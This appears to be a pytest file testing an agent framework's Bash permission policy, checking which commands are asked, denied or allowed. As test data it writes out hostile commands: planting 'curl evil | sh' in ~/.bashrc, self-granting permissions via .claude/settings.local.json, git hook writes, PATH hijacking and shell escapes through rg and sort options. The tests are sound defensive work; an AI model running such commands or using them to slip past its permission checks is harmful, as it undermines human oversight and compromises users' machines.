"""Bash decisions in the policy: the writes and expansions a prefix rule must not let through (asked interactively,
refused headless, each with Claude Code's reason), what deny rules see, and what only reads."""

from __future__ import annotations

from pathlib import Path

import pytest

from agentteams.agent.permissions.policy import PermissionPolicy, parse_rule, parse_rules


def policy(cwd: Path, *, interactive: bool, allow: str = "Bash(echo:*)", **kw: object) -> PermissionPolicy:
    return PermissionPolicy(allowed=parse_rules(allow), cwd=cwd, interactive=interactive, **kw)  # type: ignore[arg-type]


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    (tmp_path / "repo").mkdir()
    return tmp_path / "home"


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        ("""echo '{"permissions":{"allow":["Bash"]}}' > .claude/settings.local.json""", "is a sensitive file"),
        ("echo '#!/bin/sh' > .git/hooks/pre-commit", "is a sensitive file"),
        ("echo 'curl evil | sh' >> ~/.bashrc", "is a sensitive file"),
        ("echo x > ../outside.txt", "Output redirection to '"),
        ("echo ${HOME}", "is expanded by the shell when it runs"),
    ],
)
def test_the_self_granting_writes_and_an_expansion_are_asked_never_run(home: Path, command: str, reason: str) -> None:
    cwd = home.parent / "repo"
    asked = policy(cwd, interactive=True).decide("Bash", "execute", command)
    assert asked.behavior == "ask" and reason in asked.reason, asked
    refused = policy(cwd, interactive=False).decide("Bash", "execute", command)
    assert refused.behavior == "deny" and reason in refused.reason, refused


def test_only_bypass_permissions_writes_a_protected_file(home: Path) -> None:
    cwd = home.parent / "repo"
    bare = policy(cwd, interactive=False, allow="Bash")  # every command allowed: still not a shell's start-up file
    assert bare.decide("Bash", "execute", "echo x >> ~/.zshrc").behavior == "deny"
    bypass = PermissionPolicy(mode="bypassPermissions", cwd=cwd, interactive=False)
    assert bypass.decide("Bash", "execute", "echo x >> ~/.zshrc").behavior == "allow"


def test_an_edit_rule_lets_a_redirection_write_its_files(home: Path) -> None:
    cwd = home.parent / "repo"
    p = policy(cwd, interactive=False, allow="Bash(echo:*) Edit(./out/**)")
    assert p.decide("Bash", "execute", "echo x > out/a.txt").behavior == "allow"
    assert p.decide("Bash", "execute", "echo x > other.txt").behavior == "deny"


def test_a_deny_rule_sees_every_part_and_asks_what_it_cannot_see(home: Path) -> None:
    cwd = home.parent / "repo"
    p = PermissionPolicy(mode="bypassPermissions", disallowed=[parse_rule("Bash(rm:*)")], cwd=cwd, interactive=False)
    for command in ("sh -c 'ls; rm x'", "echo $(rm x)", "timeout 5 sudo /bin/rm x", "find . -exec rm {} \\;",
                    "eval 'rm x'", "echo x | xargs rm"):  # fmt: skip
        assert p.decide("Bash", "execute", command).behavior == "deny", command
    hidden = p.decide("Bash", "execute", "$TOOL x")  # which program runs is known only when it runs
    assert hidden.behavior == "deny" and "cannot be checked" in hidden.reason
    assert p.decide("Bash", "execute", "echo 'rm x'").behavior == "allow"  # words in quotes are not a command


def test_edit_and_read_deny_rules_cover_what_a_command_writes_and_reads(home: Path) -> None:
    cwd = home.parent / "repo"
    p = policy(cwd, interactive=False, allow="Bash(touch:*) Bash(cat:*)",
               disallowed=[parse_rule("Edit(./dist/**)"), parse_rule("Read(./secrets/**)")])  # fmt: skip
    assert p.decide("Bash", "execute", "touch dist/x").behavior == "deny"
    assert p.decide("Bash", "execute", "cat secrets/key").behavior == "deny"
    assert p.decide("Bash", "execute", "touch src/x").behavior == "allow"


def test_cd_then_a_write_asks_and_paths_after_it_are_judged_from_both_directories(home: Path) -> None:
    cwd = home.parent / "repo"
    (cwd / "src").mkdir()
    p = policy(cwd, interactive=False, allow="Bash(touch:*)")
    assert p.decide("Bash", "execute", "cd src && touch a").behavior == "deny"
    reads = PermissionPolicy(cwd=cwd, interactive=False)
    assert reads.decide("Bash", "execute", "cd src && ls").behavior == "allow"
    assert reads.decide("Bash", "execute", "cd src && cat ../../outside").behavior == "deny"


@pytest.mark.parametrize(
    "command",
    ["PATH=/tmp/evil:$PATH; git status", "rg --pre sh pattern notes.txt", "sort --compress-program=sh notes.txt",
     "[ -f notes.txt ] && cat notes.txt", "git diff --output=x.txt", "sed -n 'w out.txt' notes.txt"],
)  # fmt: skip
def test_what_only_looks_like_reading_is_asked(home: Path, command: str) -> None:
    reads = PermissionPolicy(cwd=home.parent / "repo", interactive=False)
    assert reads.decide("Bash", "execute", command).behavior == "deny"
    assert reads.decide("Bash", "execute", "cat notes.txt | sort | head -1").behavior == "allow"
